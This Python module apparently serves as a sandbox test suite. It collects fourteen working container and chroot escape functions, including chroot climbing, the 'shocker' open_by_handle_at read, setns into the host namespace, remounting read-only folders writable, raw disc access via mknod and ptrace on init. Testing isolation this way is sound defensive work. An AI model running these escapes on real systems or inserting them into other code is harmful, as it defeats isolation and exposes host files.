"""Ways out of a small root, each a function that returns what it read outside, or raises OSError.

Law: an escape that works reads the host's file of the name it is given, writes a file that is shown
read-only, or reads the disc. They are tried in a worker that is gone afterwards.
"""

from __future__ import annotations

import ctypes
import os
import stat
import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any, NamedTuple

__all__ = ["ESCAPES", "Target", "handle_of"]

_NEWUSER, _NEWNS = 0x10000000, 0x00020000
_AT_FDCWD, _AT_RECURSIVE, _MOUNT_SETATTR = -100, 0x8000, 442
_PTRACE_ATTACH, _MNT_DETACH = 16, 2
_MS_REMOUNT, _MS_BIND = 0x20, 0x1000

libc = ctypes.CDLL(None, use_errno=True)


class Target(NamedTuple):
    """What an escape is after, and what it was left."""

    secret: str  # a file outside that anybody may read
    shown: str  # a folder that is shown read-only, with a file `open` that anybody may write
    handle: str  # the secret's file handle, in hexadecimal digits
    disc: int  # the number of the device that the host's root is on
    namespace: int  # a descriptor of the host's mount namespace


def call(name: str, *arguments: Any) -> int:
    result: int = getattr(libc, name)(*arguments)
    if result == -1:
        raise OSError(ctypes.get_errno(), name)
    return result


def climb(target: Target) -> str:
    return Path("/.." * 30 + target.secret).read_text()


def climb_out_of_a_root_within(target: Target) -> str:
    """https://man7.org/linux/man-pages/man2/chroot.2.html: a process may climb above its root."""
    above = os.open("/", os.O_RDONLY)
    os.chroot("/usr")
    os.fchdir(above)
    for _ in range(30):
        os.chdir("..")
    os.chroot(".")
    return Path(target.secret).read_text()


def look_through_proc(target: Target) -> str:
    call("mount", b"proc", b"/dev", b"proc", 0, None)
    return Path("/dev/1/root" + target.secret).read_text()


def look_through_the_parent(target: Target) -> str:
    return Path("/proc/self/root/../.." + target.secret).read_text()


def join_the_hosts_files(target: Target) -> str:
    call("setns", target.namespace, 0)
    return Path(target.secret).read_text()


def take_the_root_away(target: Target) -> str:
    call("umount2", b"/", _MNT_DETACH)
    return Path(target.secret).read_text()


def open_by_handle(target: Target) -> str:
    """The way out of a container that was called "shocker" in 2014."""
    kept = bytes.fromhex(target.handle)
    beside = os.open(target.shown, os.O_RDONLY)
    with os.fdopen(call("open_by_handle_at", beside, kept, os.O_RDONLY)) as file:
        return file.read()


def write_what_is_shown(target: Target) -> str:
    clear = struct.pack("QQQQ", 0, 1, 0, 0)
    shown = target.shown.encode()
    numbers = [ctypes.c_long(one) for one in (_MOUNT_SETATTR, _AT_FDCWD, 0, len(clear))]
    call("syscall", numbers[0], numbers[1], shown, numbers[2], clear, numbers[3])
    (Path(target.shown) / "open").write_text("written")
    return "written"


def mount_again_to_write(target: Target) -> str:
    call("mount", None, target.shown.encode(), None, _MS_REMOUNT | _MS_BIND, None)
    (Path(target.shown) / "open").write_text("written")
    return "written"


def write_as_root_of_an_inner_world(target: Target) -> str:
    call("unshare", _NEWUSER | _NEWNS)
    return write_what_is_shown(target)


def look_through_proc_of_an_inner_world(target: Target) -> str:
    call("unshare", _NEWUSER | _NEWNS)
    return look_through_proc(target)


def read_the_disc(target: Target) -> str:
    call("mount", b"tmpfs", b"/dev", b"tmpfs", 0, None)
    os.mknod("/dev/disc", stat.S_IFBLK | 0o600, target.disc)
    with open("/dev/disc", "rb") as disc:
        return f"{len(disc.read(512))} bytes"


def trace_init(_: Target) -> str:
    call("ptrace", _PTRACE_ATTACH, 1, None, None)
    return "traced"


def read_inits_memory(_: Target) -> str:
    """Look at where every program has memory: its own address of this very library."""
    here = ctypes.create_string_buffer(8)
    own = struct.pack("PN", ctypes.addressof(here), 8)
    there = struct.pack("PN", ctypes.cast(libc.getpid, ctypes.c_void_p).value or 0, 8)
    call("process_vm_readv", 1, own, 1, there, 1, 0)
    return "read"


ESCAPES: dict[str, Callable[[Target], str]] = {
    escape.__name__: escape
    for escape in (
        climb,
        climb_out_of_a_root_within,
        look_through_proc,
        look_through_the_parent,
        join_the_hosts_files,
        take_the_root_away,
        open_by_handle,
        write_what_is_shown,
        mount_again_to_write,
        write_as_root_of_an_inner_world,
        look_through_proc_of_an_inner_world,
        read_the_disc,
        trace_init,
        read_inits_memory,
    )
}


def handle_of(path: Path) -> str:
    """Return the kernel's handle of a file, in hexadecimal digits; none where there is none."""
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136)
    mount = ctypes.c_int()
    if libc.name_to_handle_at(_AT_FDCWD, bytes(path), handle, ctypes.byref(mount), 0) != 0:
        return ""
    size = struct.unpack_from("I", handle)[0]
    return bytes(handle)[: 8 + size].hex()
